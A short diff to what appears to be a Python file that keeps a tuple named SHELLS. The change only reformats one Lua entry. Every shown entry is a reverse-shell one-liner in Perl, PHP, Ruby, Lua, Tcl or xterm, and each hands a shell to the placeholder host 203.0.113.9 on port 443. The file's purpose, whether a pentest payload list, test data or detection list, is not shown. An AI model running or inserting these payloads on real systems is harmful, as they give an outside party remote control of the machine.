@@ -42,7 +42,8 @@ SHELLS = (
     "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
     'php -r \'$s=fsockopen("203.0.113.9",443);proc_open("sh -i",array(0=>$s,1=>$s,2=>$s),$p);\'',
     'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.9",443))\'',
-    "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.9','443');os.execute('sh -i <&3 >&3 2>&3');\"",
+    "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.9','443');"
+    "os.execute('sh -i <&3 >&3 2>&3');\"",
     "echo 'set s [socket 203.0.113.9 443];while 1 {gets $s c;set r [eval exec $c];puts $s $r}' | tclsh",
     "xterm -display 203.0.113.9:1",
 )
